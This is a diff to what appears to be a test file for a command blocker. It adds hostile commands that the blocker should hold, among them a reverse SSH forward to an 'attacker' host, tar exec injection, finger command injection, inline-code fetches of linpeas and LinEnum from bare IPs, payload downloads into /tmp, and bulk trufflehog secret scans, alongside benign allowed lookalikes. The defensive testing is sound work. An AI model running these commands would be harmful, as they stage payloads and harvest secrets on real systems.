@@ -4,7 +4,10 @@ Known misses from pentest notes the lead listed: a reverse forward opening a por
 another host (``ssh -R 8080:127.0.0.1:80 attacker``), tar made to run a command
 (``--checkpoint-action=exec=sh shell.sh``), another host's shares listed (``showmount -e``, ``smbutil
 view``), a login tried on an RDP port (``impacket-rdp_check``), default passwords tried by ``eyewitness
---active-scan``, and a command injected through finger (``finger "|/bin/id@HOST"``). The variants below
+--active-scan``, a command injected through finger (``finger "|/bin/id@HOST"``), clients wrapped in
+proxychains (``psql -h`` was read as help), an enumeration script fetched by an interpreter's inline code,
+a download into ``/tmp`` from a bare address of the network, and trufflehog fed organizations from a list.
+The variants below
 are written for this test, not the measured lines.
 """
 
@@ -45,6 +48,27 @@ HELD = {
         "finger '|/bin/ls -a /@10.0.0.3'",
         "finger \"|/bin/sh -c 'id'@target\"",
     ],
+    "client wrapped in proxychains": [
+        "proxychains psql -h 10.10.10.5",
+        "proxychains4 -q psql -h 172.16.5.20 -U postgres",
+        "proxychains mysql -h 10.10.10.8 -u root -p",
+    ],
+    "enumeration script fetched by inline code": [
+        "php -r \"file_put_contents('x.sh', file_get_contents('http://10.10.14.2/LinEnum.sh'));\"",
+        "python3 -c \"import urllib.request; urllib.request.urlretrieve('http://10.1.1.3/linpeas.sh', 'l')\"",
+        'perl -e \'use LWP::Simple; getstore("http://10.10.14.3/LinEnum.sh", "/dev/shm/e.sh")\'',
+        'ruby -e \'require "open-uri"; File.write("les.sh", URI.open("http://h.example/les.sh").read)\'',
+    ],
+    "download into a temp directory from a bare address": [
+        "curl http://10.10.14.3/x -o /tmp/payload",
+        "curl -s http://192.168.45.210/shell -o /tmp/s",
+        "curl -o /dev/shm/a http://10.10.14.7:8000/a",
+        "wget http://172.16.4.2/x -O /var/tmp/payload",
+    ],
+    "secrets of organizations fed from a list": [
+        "curl https://api.github.com/organizations | jq -r .[].login | xargs -I{} trufflehog github --org={}",
+        "xargs -a orgs.txt -I{} trufflehog github --org {} --only-verified",
+    ],
 }
 
 ALLOWED = [
@@ -65,4 +89,14 @@ ALLOWED = [
     "finger alice",
     "finger alice@localhost",
     "finger -l",
+    "proxychains -h",
+    "ngrok -h",
+    "php -r \"copy('https://getcomposer.org/installer', 'composer-setup.php');\"",
+    "python3 -c \"import urllib.request; urllib.request.urlretrieve('https://example.com/d.csv', 'd.csv')\"",
+    "curl http://127.0.0.1:9000/metrics -o /tmp/m",
+    "curl http://192.168.1.20:8000/build.tgz -o build.tgz",
+    "curl -o /tmp/go.tgz https://go.dev/dl/go1.22.linux-amd64.tar.gz",
+    "trufflehog git file://.",
+    "trufflehog github --org acme --only-verified",
+    'trufflehog github --org "$ORG" --only-verified',
 ]
